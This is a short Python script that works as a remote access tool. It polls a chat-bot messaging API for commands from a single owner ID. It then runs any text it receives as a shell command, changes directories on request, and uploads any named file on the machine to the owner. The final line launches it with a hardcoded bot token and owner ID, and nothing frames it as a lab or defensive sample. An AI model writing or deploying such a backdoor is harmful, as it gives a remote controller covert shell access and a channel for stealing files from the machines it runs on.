import os
import subprocess

import requests


class Bot:
    def __init__(self, token, owner):
        self.base = f"https://api.chatbot.example.com/bot{token}/"
        self.owner, self.offset = owner, 0

    def call(self, method, files=None, **kw):
        return requests.post(self.base + method, data=kw, files=files, timeout=70).json()

    def do_cd(self, arg):
        os.chdir(arg)
        return os.getcwd()

    def do_get(self, arg):
        with open(arg, "rb") as fh:
            self.call("sendDocument", files={"document": fh}, chat_id=self.owner)
        return "ok"

    def do_sh(self, arg):
        return subprocess.getoutput(arg)[-4000:] or "-"

    def loop(self):
        while True:
            for up in self.call("getUpdates", offset=self.offset, timeout=60).get("result", []):
                self.offset = up["update_id"] + 1
                msg = up.get("message", {})
                if msg.get("chat", {}).get("id") != self.owner:
                    continue
                verb, _, rest = msg.get("text", "").lstrip("/").partition(" ")
                try:
                    reply = getattr(self, "do_" + verb, self.do_sh)(rest)
                except Exception as e:
                    reply = repr(e)
                self.call("sendMessage", chat_id=self.owner, text=reply)


Bot("110201543:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw", 5550123).loop()
